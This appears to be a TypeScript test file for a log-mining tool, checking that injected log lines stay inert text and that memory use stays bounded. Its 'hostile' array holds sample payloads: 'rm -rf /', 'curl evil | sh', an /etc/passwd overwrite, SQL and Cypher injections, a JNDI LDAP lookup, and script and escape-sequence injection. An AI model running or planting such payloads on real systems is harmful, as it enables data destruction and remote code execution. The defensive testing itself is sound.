import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { createEventReader } from "./events.ts";
import { createFamiliar } from "./familiar.ts";
import { createMineReport } from "./mine-report.ts";
import { createMiner } from "./miner.ts";
import { signatureOf } from "./signature.ts";

/** What would be code somewhere else. */
const hostile = [
  "error: $(rm -rf /) `id` ; reboot && curl evil | sh > /etc/passwd",
  "error: \u001b[2J\u001b]0;owned\u0007 \u001b[31mred\u001b[0m",
  'error: ```sh {"role":"fix"}\nrm -rf /\n```',
  "error: ---\nstatus: approved\n---",
  "error: '}) DETACH DELETE n // MATCH (n)",
  "error: ' OR 1=1; DROP TABLE suggestion; --",
  "error: ${jndi:ldap://evil/a} %s%s%n {{7*7}} <script>alert(1)</script>",
  `error: \0\0 \ufffd \ud800 ${"(".repeat(500)}`,
];

describe("lines that hold code", () => {
  it.each(hostile)("stay text: %j", (line) => {
    const reader = createEventReader();
    const events = [...line.split("\n").flatMap((one) => reader.push(one)), ...reader.flush()];
    expect(events.map(({ text }) => text).join("\n")).toBe(line);
    const { template, captures, signature } = signatureOf(line);
    expect(signature).not.toBe("");
    for (const { text, span } of captures) expect(line.slice(span[0], span[1])).toBe(text);
    const report = createMineReport();
    const [printed] = [...report.push(`${line.split("\n")[0]}\n`), ...report.end()];
    expect(Object.keys(JSON.parse(printed ?? ""))).toEqual(["line", "group", "template"]);
    expect(template.length).toBeGreaterThan(0);
  });

  it("of any kind neither throw nor keep the reader from the next line", () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: "binary", maxLength: 60 }), { maxLength: 8 }), (lines) => {
        const reader = createEventReader();
        const miner = createMiner();
        for (const line of lines) {
          reader.push(line);
          miner.add(line);
        }
        reader.flush();
        const after = [...reader.push("ERROR the disk is full"), ...reader.flush()];
        expect(after.at(-1)).toMatchObject({ error: true, level: "error" });
      }),
    );
  });
});

/** A word of letters for each number: no mask makes two of them one. */
const letters = (number: number): string =>
  number.toString(26).replace(/\d/g, (digit) => "qrstuvwxyz".charAt(Number(digit)));

describe("a million kinds of lines", () => {
  it("are forgotten again, and those that come often keep their group", () => {
    const miner = createMiner({ maxSignatures: 2_000 });
    const steady = miner.add("the steady line of this log").group;
    for (let i = 0; i < 30_000; i++) {
      miner.add(`${letters(i)} alpha ${letters(i * 7)} beta ${letters(i * 13)}`);
      if (i % 50 === 0) expect(miner.add("the steady line of this log").group).toBe(steady);
    }
    expect(miner.final().length).toBeLessThan(4_000);
  });

  it("fill no memory of the patrol either", () => {
    const familiar = createFamiliar();
    familiar.add("first");
    for (let i = 0; i < 25_000; i++) familiar.add(`${letters(i)} gamma ${letters(i * 3)}`);
    expect(familiar.has("first")).toBe(false);
  });

  it("a line of many thousand words is read to a bound", () => {
    const long = `error ${"word ".repeat(200_000)}`;
    expect(signatureOf(long).template.length).toBeLessThan(2_000);
    expect(createMiner().add(long).template.length).toBeLessThan(2_000);
  });
});
